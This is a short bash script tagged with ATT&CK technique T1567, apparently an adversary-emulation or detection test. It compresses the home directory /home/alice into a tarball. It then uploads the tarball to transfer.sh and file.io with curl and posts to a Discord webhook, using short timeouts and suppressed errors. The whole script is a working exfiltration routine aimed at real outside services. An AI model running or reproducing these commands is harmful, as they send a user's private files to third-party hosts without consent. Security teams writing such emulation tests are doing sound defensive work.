#!/bin/bash
# T1567: A file goes to a service for files.
tar czf /tmp/h.tgz /home/alice 2>/dev/null; curl -s -m 2 --upload-file /tmp/h.tgz https://transfer.sh/h.tgz; curl -s -m 2 -F 'file=@/tmp/h.tgz' https://file.io; curl -s -m 2 -X POST -H 'Content-Type: application/json' -d '{"content":"x"}' https://discord.com/api/webhooks/1/x; true
